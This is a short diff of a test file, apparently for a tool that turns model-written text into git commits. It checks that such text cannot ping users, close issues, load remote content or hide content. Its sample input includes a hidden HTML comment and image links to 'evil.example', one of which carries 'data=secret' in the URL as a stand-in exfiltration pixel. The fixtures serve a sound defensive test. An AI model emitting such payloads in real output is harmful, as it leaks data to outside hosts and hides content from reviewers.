@@ -137,7 +137,7 @@ test('a commit has the author and the committer of the settings, and a sign-off 
   expect(await show('%(trailers:key=Cody-Batch-Job,valueonly)')).toBe(jobId);
 });
 
-test("a model's text mentions nobody, closes nothing, loads nothing, hides nothing and is nobody's co-author", async () => {
+test("a model's text mentions no user, closes nothing, loads nothing, hides nothing and adds no co-author", async () => {
   const body = [
     'Thanks @octocat and @org/team. Fixes #12, closes GH-3, resolves https://github.com/o/r/issues/4.',
     '<!-- hidden --><img src="https://evil.example/x.png"> ![pixel](https://evil.example/?data=secret)',
